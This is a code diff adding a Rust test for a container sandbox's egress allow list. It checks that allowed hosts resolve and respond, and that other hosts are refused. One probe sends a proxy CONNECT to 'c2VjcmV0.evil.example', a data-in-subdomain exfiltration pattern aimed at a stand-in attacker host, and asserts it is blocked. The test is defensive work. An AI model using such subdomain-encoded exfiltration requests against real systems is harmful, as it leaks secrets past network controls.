@@ -350,6 +350,64 @@ async fn the_ways_out_of_a_container_are_those_of_its_child() {
     answering.abort();
 }
 
+/// probe-50, probe-54, probe-55: a host that is named is reached by its name, and no other is asked for.
+#[tokio::test]
+async fn a_container_reaches_the_hosts_that_are_named() {
+    use std::sync::{Arc, Mutex};
+    if !has_podman("a_container_reaches_the_hosts_that_are_named") {
+        return;
+    }
+    let host = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = host.local_addr().unwrap().port();
+    let answering = tokio::spawn(async move {
+        use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+        loop {
+            let (mut stream, _) = host.accept().await.unwrap();
+            let _ = stream.read(&mut [0; 4096]).await;
+            let said = "HTTP/1.1 200 OK\r\nContent-Length: 7\r\nConnection: close\r\n\r\nreached";
+            let _ = stream.write_all(said.as_bytes()).await;
+        }
+    });
+    let asked: Arc<Mutex<Vec<String>>> = Arc::default();
+    let questions = Arc::clone(&asked);
+    let resolver = thv::egress::Resolver::new(move |name| {
+        questions.lock().unwrap().push(name);
+        async { Ok(vec!["127.0.0.1".parse().unwrap()]) }
+    });
+    let archive = tempfile::tempdir().unwrap();
+    let lines = format!(
+        "egress = [\"allowed.test:{port} in 127.0.0.1\", \"*.wild.test:{port} in 127.0.0.1\"]"
+    );
+    let house = by_podman(&archive.path().join("image.tar"), "", &lines, "")
+        .resolver(resolver)
+        .open()
+        .await;
+    let sandbox = Sandbox {
+        caller: house.session("alice").await,
+        house,
+    };
+    let fetched = sandbox
+        .inside("fetch", &format!("http://allowed.test:{port}/"))
+        .await;
+    assert_eq!(fetched, (true, "reached".to_owned()));
+    let connect = |name: &str| {
+        let say = format!("CONNECT {name}:{port} HTTP/1.1\r\n\r\n");
+        json!({ "to": "127.77.1.1:3128", "say": say, "end": false, "patience": 2 }).to_string()
+    };
+    let (_, said) = sandbox.inside("says", &connect("a.wild.test")).await;
+    assert!(said.starts_with("HTTP/1.1 200 "), "{said}");
+    for name in ["c2VjcmV0.evil.example", "c2VjcmV0.allowed.test"] {
+        let (_, said) = sandbox.inside("says", &connect(name)).await;
+        assert!(said.starts_with("HTTP/1.1 403 "), "{said}");
+        assert!(!sandbox.inside("name", name).await.0, "{name}");
+    }
+    for to in ["8.8.8.8:53", "127.0.0.53:53"] {
+        assert!(!sandbox.inside("datagram", to).await.0, "{to}");
+    }
+    assert_eq!(*asked.lock().unwrap(), ["allowed.test", "a.wild.test"]);
+    answering.abort();
+}
+
 /// probe-16, probe-62: where the host's network is the container's, too, Landlock's scopes are all that is
 /// between it and abstract sockets; and they hold podman as well as what it runs.
 #[tokio::test]
